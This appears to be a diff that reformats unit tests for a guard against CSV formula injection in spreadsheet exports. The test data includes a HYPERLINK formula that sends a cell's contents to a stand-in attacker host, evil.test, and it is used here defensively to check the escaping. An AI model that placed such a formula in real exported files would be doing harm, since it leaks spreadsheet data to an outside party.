@@ -6,7 +6,9 @@ describe("CSV cells for spreadsheets (OWASP CSV injection)", () => {
     for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
       expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
     }
-    expect(csvCell('=HYPERLINK("http://evil.test?x="&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.test?x=""&A1,""Click"")"`);
+    expect(csvCell('=HYPERLINK("http://evil.test?x="&A1,"Click")')).toBe(
+      `"'=HYPERLINK(""http://evil.test?x=""&A1,""Click"")"`,
+    );
     expect(csvCell("@SUM(A1:A9)")).toBe(`"'@SUM(A1:A9)"`);
   });
 
@@ -30,7 +32,22 @@ describe("CSV cells for spreadsheets (OWASP CSV injection)", () => {
   });
 
   it("fromCsvCell undoes exactly the guard, so a cell read back and written again is the same cell", () => {
-    for (const text of ["=HYPERLINK(\"http://evil.test\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'Tis", "''=x", "'=x", "'", "'Tis", "plain", "", "'"]) {
+    for (const text of [
+      '=HYPERLINK("http://evil.test")',
+      "+1",
+      "-2",
+      "@SUM(A1)",
+      "\tx",
+      "\rx",
+      "'Tis",
+      "''=x",
+      "'=x",
+      "'",
+      "'Tis",
+      "plain",
+      "",
+      "'",
+    ]) {
       const cell = csvCell(text).slice(1, -1).replace(/""/g, '"');
       expect(fromCsvCell(cell)).toBe(text);
       expect(csvCell(fromCsvCell(cell))).toBe(csvCell(text));
